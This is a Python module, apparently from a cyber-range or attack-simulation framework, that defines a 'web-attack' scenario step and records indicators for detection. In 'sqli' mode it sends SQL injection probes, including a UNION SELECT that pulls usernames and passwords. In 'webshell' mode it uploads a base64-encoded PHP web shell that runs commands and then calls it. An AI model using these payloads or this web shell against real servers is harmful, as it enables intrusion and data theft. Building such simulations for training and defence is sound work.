"""The `web-attack` step: initial access by SQL injection or a web shell against a public web server."""

from __future__ import annotations

import base64
from typing import ClassVar, Literal

from ...model.scenario import STEP_ACTIONS, Ref
from ..defence import Route
from .base import Indicators, Outcome, StepContext, StepKind


@STEP_ACTIONS.register
class WebAttackAction(StepKind):
    """Initial access: SQL injection or a web shell against a public web server."""

    kind: Literal["web-attack"]
    source: Ref
    target: Ref
    mode: Literal["sqli", "webshell"] = "sqli"
    path: str = "/"

    order: ClassVar[int] = 120
    host_fields: ClassVar[tuple[str, ...]] = ("source", "target")

    def indicators(self, found: Indicators) -> None:
        """The attacker's address and the URL attacked."""
        found.add("addresses", found.address_of(self.source))
        found.add("urls", f"http://{self.target}.{found.range.domain}{self.path}")

    async def run(self, ctx: StepContext) -> Outcome:
        """SQL injection probes, or a web-shell upload attempt, against a public web server."""
        target = ctx.address(self.target, seen_from=self.source)
        if self.mode == "sqli":
            payloads = ["?id=1'", "?id=1' OR '1'='1", "?id=1 UNION SELECT username,password FROM users--"]
            commands = [["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}\n", "-m", "5", "-A", "sqlmap/1.7",
                         f"http://{target}{self.path}{p.replace(' ', '%20')}"] for p in payloads]
        else:
            shell = base64.b64encode(b"<?php system($_GET['c']); ?>").decode()
            commands = [["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}\n", "-m", "5", "-X", "PUT",
                         "--data", shell, f"http://{target}{self.path.rstrip('/')}/shell.php"],
                        ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}\n", "-m", "5",
                         f"http://{target}{self.path.rstrip('/')}/shell.php?c=id"]]
        codes = []
        for command in commands:
            result = await ctx.run(self.source, command, timeout=20)
            if not result.stdout.strip() or result.stdout.strip() == "000":
                return Outcome(False, f"web server {self.target} unreachable")
            codes.append(result.stdout.strip())
        return Outcome(True, details={"responses": codes})

    def route(self, ctx: StepContext) -> Route:
        """From the attacker to the web server."""
        return Route(hosts=(self.target,), addresses=ctx.addresses(self.source, self.target))
